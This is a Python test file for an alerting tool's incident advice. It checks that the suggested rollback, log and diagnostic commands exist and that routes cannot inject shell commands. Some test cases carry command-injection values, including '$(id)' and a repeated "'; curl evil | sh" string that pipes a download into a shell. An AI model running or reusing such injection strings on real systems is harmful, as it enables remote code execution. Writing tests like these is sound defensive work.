"""What to do about an incident: commands that exist, find what is counted, and run nothing else."""

from __future__ import annotations

import argparse
import importlib
import re
import shlex
from dataclasses import replace
from typing import get_args

import pytest
from hypothesis import given

from app.alerts.board import AlertState
from app.alerts.condition import Family
from app.alerts.context import Context
from app.alerts.measures import Measure
from app.alerts.targets import teams
from app.alerts.targets.form import bounded
from app.alerts.text import lines_of
from app.cli.main import COMMANDS
from app.platform.release import Release
from tests.app.alerts.told import AT_S, BEGAN_S, ERRORS, HOSTILE, V42, alert, incident, message


def test_a_rollback_is_advised_only_just_after_what_it_could_undo() -> None:
    def advice(release: Release | None, *alerts: AlertState) -> str:
        return message(incident(*alerts or [alert()]), context=Context(release=release)).action

    # A second `heroku rollback` without a version would be back at the cause.
    assert "If v42 is the cause, go back: `heroku rollback v41 -a shop`." in advice(V42)
    assert "`heroku rollback -a shop`" in advice(replace(V42, version=0))
    assert "`python -m app compare --app shop --release v42`" in advice(V42)
    for other in (
        None,
        replace(V42, at_ms=(BEGAN_S - 7_200) * 1000),
        replace(V42, at_ms=AT_S * 1000),
        replace(V42, cause="scale"),
        replace(V42, cause="rollback"),
    ):
        assert "rollback" not in advice(other)
    for undone in ("slowness", "memory", "release"):
        assert "`heroku rollback v41 -a shop`" in advice(V42, alert(family=undone))
    for not_undone in ("traffic", "intake", "tailrace"):
        assert "rollback" not in advice(V42, alert(family=not_undone))


def commands(text: str) -> list[list[str]]:
    return [words for found in re.findall(r"`([^`]*)`", text) if (words := shlex.split(found))[0] == "python"]


MEASURES = [None, ERRORS, Measure("aborted"), Measure("code", "H12"), Measure("status", "5xx")]


@pytest.mark.parametrize("measure", MEASURES)
@pytest.mark.parametrize("family", get_args(Family))
@pytest.mark.parametrize("route", ["/checkout", "/a b/'c'/$(id)", "(not found)", ""])
@pytest.mark.parametrize("app", ["shop", ""])
def test_every_command_that_is_advised_exists(
    family: Family, route: str, app: str, measure: Measure | None
) -> None:
    fires = alert(route, family=family, app=app, measure=measure)
    told = message(incident(fires, app=app), context=Context(release=V42))
    assert told.action
    for words in commands(told.action):
        assert words[:3] == ["python", "-m", "app"]
        parser = argparse.ArgumentParser(allow_abbrev=False, exit_on_error=False)
        importlib.import_module(COMMANDS[words[3]][1]).add_arguments(parser)
        found = vars(parser.parse_args(words[4:]))
        assert found.get("app", app) in (app, None)
        if route and "route" in found:
            assert found["route"] in (route, [route])


@pytest.mark.parametrize(
    ("measure", "flags"),
    [
        (ERRORS, ["--failed"]),
        (Measure("codes"), ["--failed"]),
        (Measure("code", "H12"), ["--code", "H12"]),
        (Measure("status", "404"), ["--status", "404"]),
        (Measure("aborted"), ["--status", "499"]),
    ],
)
def test_the_commands_find_what_is_counted(measure: Measure, flags: list[str]) -> None:
    found = commands(message(incident(alert(measure=measure))).action)
    assert len(found) == 2
    for words in found:
        assert words[8 : 8 + len(flags)] == flags


def test_slow_requests_are_those_over_the_limit() -> None:
    slow = alert(family="slowness")
    slow = replace(slow, judgement=replace(slow.judgement, limit=800.0))
    assert "--slower-than 800ms --group-by dyno" in message(incident(slow)).action


def test_of_a_dyno_that_crashed_its_log_is_advised_and_of_an_objective_failed_and_slow_requests() -> None:
    crashed = message(incident(alert("", "web.1 crashed 3 times", dyno="web.1", measure=None)))
    assert "`heroku logs -n 500 -d web.1 -a shop`" in crashed.action
    burns = message(incident(alert("", "the budget burns 22 times too fast", measure=None))).action
    assert "--failed" in burns
    assert "--sort p95" in burns


@pytest.mark.parametrize("route", ["/" + "'; curl evil | sh; '" * 9, "/" + "a" * 199])
def test_no_target_cuts_a_command_in_its_middle(route: str) -> None:
    app = "a" * 64
    told = message(incident(alert(route, app=app), app=app), context=Context(release=V42))
    assert len(commands(told.action)) == 3
    shown = [
        run["text"]
        for block in teams.content_of(told)["attachments"][0]["content"]["body"]
        for run in block["inlines"]
    ]
    assert told.action in shown
    assert told.action in lines_of(bounded(told))
    assert len(told.action) <= 1_000


@given(HOSTILE, HOSTILE)
def test_no_route_runs_anything_in_a_shell(route: str, app: str) -> None:
    told = message(incident(alert(route, app=app), app=app))
    for found in re.findall(r"`([^`]*)`", told.action):
        words = shlex.split(found)
        assert words[:3] == ["python", "-m", "app"] or words[0] == "heroku"
        ours = [word for word in words if word not in (route, app)]
        assert all(re.fullmatch(r"[\w:.-]+", word) for word in ours), words
